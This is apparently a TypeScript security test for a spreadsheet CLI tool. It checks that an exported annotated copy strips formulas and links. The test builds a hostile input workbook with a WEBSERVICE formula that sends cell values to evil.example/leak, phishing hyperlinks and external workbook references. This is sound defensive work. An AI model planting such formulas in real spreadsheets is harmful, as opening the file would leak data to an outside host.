/**
 * Issue 24 item 13: the annotated copy kept the input workbook's formulas (WEBSERVICE, HYPERLINK,
 * references to other workbooks) and links. Written locally, it loses the mark that makes Excel
 * open a downloaded file in Protected View, so opening it could call out. The copy must hold
 * values only: the real `rekap run` and `rekap export --annotated`, then the copy's XML is read.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { execFileSync } from 'node:child_process'
import { join } from 'node:path'
import ExcelJS from 'exceljs'
import { makeTempDir } from '../helpers/temp-dir'
import { rekap } from './helpers'

let tmp: ReturnType<typeof makeTempDir>
beforeAll(() => (tmp = makeTempDir('rekap-sec-annot-')))
afterAll(() => tmp.cleanup())

async function hostileInput(file: string): Promise<void> {
  const wb = new ExcelJS.Workbook()
  const ws = wb.addWorksheet('Data')
  ws.addRow(['Kode RS', 'Lookup', 'Link', 'Other book'])
  ws.addRow(['3171015'])
  ws.addRow(['3273012'])
  for (const r of [2, 3]) {
    ws.getCell(`B${r}`).value = { formula: `WEBSERVICE("http://evil.example/leak?c="&A${r})`, result: `cached-${r}` }
    ws.getCell(`C${r}`).value = { text: `click-${r}`, hyperlink: 'http://evil.example/phish' }
    ws.getCell(`D${r}`).value = { formula: `'[other.xlsx]Sheet1'!A${r}+0`, result: 40 + r }
  }
  ws.getCell('E2').value = { formula: 'HYPERLINK("http://evil.example/x","open me")', result: 'open me' }
  wb.definedNames.add("'[other.xlsx]Sheet1'!$A$1", 'outside')
  await wb.xlsx.writeFile(file)
}

/** Every part of the zip as text, by name. */
function partsOf(file: string): Map<string, string> {
  const names = execFileSync('unzip', ['-Z1', file], { encoding: 'utf8' }).trim().split('\n')
  return new Map(names.map((n) => [n, execFileSync('unzip', ['-p', file, n.replace(/[[\]*?]/g, '\\$&')], { encoding: 'latin1', maxBuffer: 64 * 1024 * 1024 })]))
}

describe('the annotated copy', () => {
  it('holds values, not formulas, and no link that could call out when opened', async () => {
    const input = join(tmp.dir, 'input.xlsx')
    await hostileInput(input)
    const inputParts = [...partsOf(input).values()].join('\n')
    expect(inputParts).toMatch(/WEBSERVICE/) // the input really carries them
    expect(inputParts).toMatch(/evil\.example\/phish/)
    const db = join(tmp.dir, 'rekap.db')
    const run = await rekap(['run', input, '--kind', 'hospital-lookup', '--map', 'code=Kode RS', '--yes', '--json', '--db', db], { timeoutMs: 90_000 })
    expect(run.code, run.out).toBe(0)
    const jobId = JSON.parse(run.stdout.trim().split('\n').at(-1)!).jobId as string
    const copy = join(tmp.dir, 'copy.xlsx')
    const exp = await rekap(['export', jobId, '--annotated', '--out', copy, '--db', db], { timeoutMs: 90_000 })
    expect(exp.code, exp.out).toBe(0)

    const parts = partsOf(copy)
    const all = [...parts.values()].join('\n')
    for (const [name, xml] of parts) if (name.startsWith('xl/worksheets/') && name.endsWith('.xml')) expect(xml, name).not.toMatch(/<f[ >]/)
    expect(all).not.toMatch(/WEBSERVICE|HYPERLINK|evil\.example|other\.xlsx/)
    expect([...parts.keys()].filter((n) => /externalLink/i.test(n))).toEqual([])
    expect(all).not.toMatch(/TargetMode="External"/)
    // the values stay: the cached results and the links' texts
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.readFile(copy)
    const ws = wb.getWorksheet('Data')!
    expect(ws.getCell('B2').value).toBe('cached-2')
    expect(ws.getCell('C3').value).toBe('click-3')
    expect(ws.getCell('D2').value).toBe(42)
    expect(ws.getCell('E2').value).toBe('open me')
  }, 180_000)
})
